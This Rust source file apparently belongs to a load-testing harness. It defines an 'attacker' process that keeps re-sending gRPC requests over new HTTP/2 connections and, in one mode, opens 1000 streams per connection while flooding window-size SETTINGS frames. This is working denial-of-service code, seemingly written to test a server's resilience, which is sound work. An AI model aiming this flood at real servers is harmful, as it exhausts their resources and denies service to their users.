//! The attacker, in a process of its own: sends the same requests again and again, on new connections, until it is killed.

use std::io::Write;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};

use super::kind::{self, Ammunition, Attack};
use crate::load::http2::{Connection, Event, frames, grpc_call};
use crate::load::options::Options;
use crate::load::plan::Dialect;
use crate::load::sockets::{Peer, Sockets};

/// How long an attacker waits for its answer before it leaves.
const PATIENCE: Duration = Duration::from_secs(2);
/// How many streams a connection of [`Attack::Windows`] opens: the default limit.
const STREAMS: usize = 1000;
/// How often these connections send, and how much all of them send at a time: 258 KiB/s.
const TICK: Duration = Duration::from_millis(10);
const TOGGLES: usize = 176;

/// Attacks the server at `--upstream` until the process is killed. Writes a byte to standard output for each round.
pub(crate) fn serve(options: &Options) -> Result<()> {
    let attack = *options.attack.first().context("an attacker needs --attack")?;
    let server = options.upstream.as_deref().context("an attacker needs --upstream")?;
    let n = options.resources.first().copied().unwrap_or(super::SIZE);
    let windows = attack == Attack::Windows;
    let shared = Shared {
        ammunition: (!windows).then(|| attack.ammunition(n)),
        headers: grpc_call(Dialect::Delta.path(), server),
        closed: Vec::new(),
    };
    let mut sockets = Sockets::<Attacker>::new(server.parse()?, shared)?;
    if windows { toggle(&mut sockets, n) } else { repeat(&mut sockets) }
}

/// One connection after the other.
fn repeat(sockets: &mut Sockets<Attacker>) -> Result<()> {
    loop {
        let number = sockets.len();
        sockets.connect(Attacker::new(number))?;
        let deadline = Instant::now() + PATIENCE;
        let endless = sockets.shared.ammunition.as_ref().is_some_and(|ammunition| ammunition.replaces);
        while sockets.shared.closed.last() != Some(&number) && (endless || Instant::now() < deadline) {
            sockets.turn(PATIENCE)?;
        }
        sockets.close(number);
        std::io::stdout().write_all(b"\n")?;
    }
}

/// As many connections as it takes to have a third of `n` streams, which all change their windows.
fn toggle(sockets: &mut Sockets<Attacker>, n: usize) -> Result<()> {
    let connections = (n / 3 / STREAMS).clamp(1, TOGGLES);
    let mut open: Vec<usize> = Vec::new();
    for round in 0_u32.. {
        open.retain(|number| !sockets.shared.closed.contains(number));
        while open.len() < connections {
            open.push(sockets.len());
            sockets.connect(Attacker::new(sockets.len()))?;
        }
        let mut bytes = Vec::new();
        (0..TOGGLES / connections).for_each(|toggle| {
            let window = 65_535 + (round + toggle as u32) % 2;
            frames::settings(&mut bytes, window);
        });
        open.iter().try_for_each(|number| sockets.send(*number, &bytes))?;
        std::io::stdout().write_all(b"\n")?;
        sockets.turn_for(TICK)?;
    }
    Ok(())
}

struct Shared {
    /// What is sent on a stream; nothing where only the connection matters.
    ammunition: Option<Ammunition>,
    headers: Vec<u8>,
    /// The numbers of connections that are closed.
    closed: Vec<usize>,
}

struct Attacker {
    number: usize,
    http: Option<Connection>,
    rounds: usize,
}

impl Attacker {
    fn new(number: usize) -> Self {
        Self { number, http: None, rounds: 0 }
    }
}

impl Peer for Attacker {
    type Shared = Shared;

    fn connected(&mut self, shared: &mut Shared, out: &mut Vec<u8>) {
        let mut http = Connection::open(out);
        match &shared.ammunition {
            Some(ammunition) => {
                let stream = http.open_stream(&shared.headers, false, out);
                http.send(stream, &[&ammunition.first], out);
            }
            None => (0..STREAMS).for_each(|_| _ = http.open_stream(&shared.headers, false, out)),
        }
        self.http = Some(http);
    }

    fn received(&mut self, shared: &mut Shared, bytes: &[u8], out: &mut Vec<u8>) -> Result<()> {
        let Some(http) = &mut self.http else { bail!("bytes came before the connection was opened") };
        let mut events = Vec::new();
        http.feed(bytes, out, &mut events)?;
        let Some(ammunition) = &shared.ammunition else { return Ok(()) };
        for event in events {
            match event {
                Event::Message(stream, message) if ammunition.replaces => {
                    http.send(stream, &[&kind::replacement(self.rounds, &message.nonce)], out);
                    self.rounds += 1;
                    std::io::stdout().write_all(b"\n")?;
                }
                _ => bail!("answered"),
            }
        }
        Ok(())
    }

    fn closed(&mut self, shared: &mut Shared, _: anyhow::Error) {
        shared.closed.push(self.number);
    }
}

/// An attacker that runs.
pub(super) type Running = super::child::Child;

/// Starts an attacker on the server at `address`.
pub(super) fn start(attack: Attack, address: &str, n: usize) -> Result<Running> {
    let n = n.to_string();
    super::child::start(&["attacker", "--attack", &attack.name(), "--upstream", address, "-r", &n])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_attacker_leaves_when_it_is_answered() {
        let mut shared = Shared {
            ammunition: Some(Attack::DeniedNames.ammunition(2)),
            headers: vec![0x83],
            closed: vec![],
        };
        let (mut attacker, mut out) = (Attacker::new(7), Vec::new());
        attacker.connected(&mut shared, &mut out);
        let mut answer = Vec::new();
        frames::data(&mut answer, 1, &[0, 0, 0, 0, 0]);
        let why = attacker.received(&mut shared, &answer, &mut out).unwrap_err();
        assert_eq!(why.to_string(), "answered");
        attacker.closed(&mut shared, why);
        assert_eq!(shared.closed, [7]);
    }
}
